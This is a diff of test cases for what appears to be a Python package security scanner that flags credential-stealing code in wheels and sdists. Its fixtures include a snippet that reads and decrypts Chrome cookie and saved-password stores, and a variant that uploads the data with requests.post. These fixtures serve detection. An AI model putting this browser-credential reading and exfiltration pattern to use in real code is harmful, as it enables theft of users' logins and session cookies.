@@ -349,6 +349,28 @@ def test_documentation_and_placeholder_addresses_are_no_endpoints() -> None:
 # --- credential-access -------------------------------------------------------------------
 
 
+COOKIE_READER = (
+    "import ctypes, os\n"
+    "CHROME = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
+    "STATE = os.path.join('Google/Chrome/User Data', 'Local State')\n"
+    "PASSWORDS = 'Chrome/User Data/Default/Login Data'\n"
+    "def unprotect(blob):\n"
+    "    return ctypes.windll.crypt32.CryptUnprotectData(blob)\n"
+)
+
+
+def test_a_cookie_reading_library_warns_at_most(tmp_path: Path) -> None:
+    result = scan(wheel(tmp_path, {"cookies/__init__.py": COOKIE_READER}, name="a-1.0"))
+    assert result.level == "warn"
+
+
+def test_a_cookie_reader_that_uploads_blocks(tmp_path: Path) -> None:
+    upload = COOKIE_READER + "def send(data):\n    import requests\n    requests.post(URL, data)\n"
+    result = scan(wheel(tmp_path, {"cookies/__init__.py": upload}, name="b-1.0"))
+    assert result.level == "block"
+    assert any(s.kind == "steal-send" for s in result.signals)
+
+
 def test_ssh_keys_and_browser_data_in_setup_py_block(tmp_path: Path) -> None:
     body = (
         "import os, urllib.request\n"
@@ -405,6 +427,17 @@ def test_pth_that_execs_blocks(tmp_path: Path) -> None:
     assert result.level == "block"
     assert result.findings[0].rule in {"pth-code", "obfuscated-code"}
     assert "pth-code" in rules(result)
+
+
+def test_pth_fixtures_in_an_sdists_tests_do_not_count_as_start_up_code(tmp_path: Path) -> None:
+    pth = "import sys, types, os; p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'x')\n"
+    fixture: dict[str, str | bytes] = {
+        "setup.py": setup_py(""),
+        "tests/functional/pkg/demo-nspkg.pth": pth,
+    }
+    assert scan(sdist(tmp_path, fixture, name="a-1.0")).level == "clean"
+    shipped: dict[str, str | bytes] = {"setup.py": setup_py(""), "demo-nspkg.pth": pth}
+    assert scan(sdist(tmp_path, shipped, name="b-1.0")).level != "clean"
 
 
 def test_namespace_and_path_pth_files_are_clean(tmp_path: Path) -> None:
